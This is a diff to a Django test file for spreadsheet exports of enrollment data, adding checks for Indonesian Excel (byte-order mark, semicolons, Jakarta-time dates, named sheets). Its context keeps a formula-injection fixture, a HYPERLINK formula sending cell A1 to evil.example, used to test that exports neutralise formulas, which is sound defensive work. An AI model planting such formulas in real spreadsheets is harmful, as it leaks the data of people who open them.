@@ -2,16 +2,23 @@
 
 import csv
 import io
+import re
+from datetime import UTC, date, datetime
+from zoneinfo import ZoneInfo
 
 import pytest
 from django.urls import reverse
+from django.utils import timezone
 from openpyxl import load_workbook
+from openpyxl.utils import get_column_letter
 
 from config.spreadsheets import csv_cell
 from members import enrollment as service
 from tests.people import FAUZI, JUMAT, KHADIJAH
 
 pytestmark = pytest.mark.django_db
+
+WIB = ZoneInfo("Asia/Jakarta")
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 SUM = "@SUM(1+1)"
@@ -33,7 +40,8 @@ def formula_people(make_person):
 
 
 def exports(client, url):
-    rows = list(csv.reader(io.StringIO(content(client.get(url + "export=csv")).decode("utf-8"))))
+    text = content(client.get(url + "export=csv")).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
     sheet = load_workbook(io.BytesIO(content(client.get(url + "export=xlsx")))).worksheets[0]
     return rows, sheet
 
@@ -93,3 +101,59 @@ def test_participant_export_neutralises_formulas_too(client, roles, formula_peop
 )
 def test_csv_cell(value, cell):
     assert csv_cell(value) == cell
+
+
+# -- as Excel set to Indonesian opens them (issue 14, item 15) --------------------------------
+
+
+def test_csv_opens_in_indonesian_excel_bom_semicolons_names_intact(client, roles, make_person, make_training):
+    training = make_training(title="Kopi & Kue; Ma'had Al-Ma'arif")
+    nuraini = roles.member.member
+    service.enroll(member=nuraini, training=training)
+    service.enroll(member=make_person(KHADIJAH), training=training)
+    client.force_login(roles.coordinator)
+    url = reverse("wagtailsnippets_members_enrollment:list") + f"?training={training.pk}&export=csv"
+    data = content(client.get(url))
+
+    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark: Excel then reads UTF-8
+    lines = data[3:].decode("utf-8").splitlines()
+    assert lines[0].startswith("Nama;Kecamatan;Desa/Kelurahan;Telepon / WhatsApp;")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+    header = rows[0]
+    names = {row[0] for row in rows[1:]}
+    assert names == {"Nur'aini Siregar", KHADIJAH.full_name}
+    assert all(len(row) == len(header) for row in rows)
+    # A ";" inside a cell is quoted, not a new column; times are WIB as dd/mm/yyyy hh:mm.
+    assert {row[header.index("Pelatihan")] for row in rows[1:]} == {"Kopi & Kue; Ma'had Al-Ma'arif"}
+    enrolled_at = rows[1][header.index("Mendaftar pada")]
+    assert re.fullmatch(r"\d\d/\d\d/\d{4} \d\d:\d\d", enrolled_at)
+    assert enrolled_at in {
+        timezone.localtime(held.requested_at, WIB).strftime("%d/%m/%Y %H:%M") for held in training.enrollments.all()
+    }
+
+
+def test_xlsx_has_a_named_sheet_wide_columns_and_wib_dates(client, roles, make_person, make_training):
+    training = make_training(title="Kopi & Kue")
+    held = service.enroll(member=roles.member.member, training=training)
+    moment = datetime(2026, 12, 1, 23, 30, tzinfo=UTC)  # 06.30 WIB on 2 December
+    type(held).objects.filter(pk=held.pk).update(requested_at=moment)
+    client.force_login(roles.coordinator)
+    url = reverse("wagtailsnippets_members_enrollment:list") + f"?training={training.pk}&export=xlsx"
+    workbook = load_workbook(io.BytesIO(content(client.get(url))))
+
+    assert workbook.sheetnames == ["Peserta"]
+    sheet = workbook["Peserta"]
+    header = [cell.value for cell in sheet[1]]
+    column = get_column_letter(header.index("Nama") + 1)
+    assert sheet.column_dimensions[column].width >= len("Nur'aini Siregar")
+    assert sheet.column_dimensions[get_column_letter(header.index("Pelatihan") + 1)].width >= len("Pelatihan")
+    cell = sheet.cell(row=2, column=header.index("Mendaftar pada") + 1)
+    assert cell.value == datetime(2026, 12, 2, 6, 30)  # the branch's clock, not UTC
+    assert cell.number_format == "dd/mm/yyyy hh:mm"
+    birth = sheet.cell(row=2, column=header.index("Tanggal lahir") + 1)
+    assert birth.number_format == "dd/mm/yyyy" and birth.value in (date(1996, 8, 17), datetime(1996, 8, 17))
+
+    members = load_workbook(
+        io.BytesIO(content(client.get(reverse("wagtailsnippets_members_member:list") + "?export=xlsx")))
+    )
+    assert members.sheetnames == ["Anggota"]
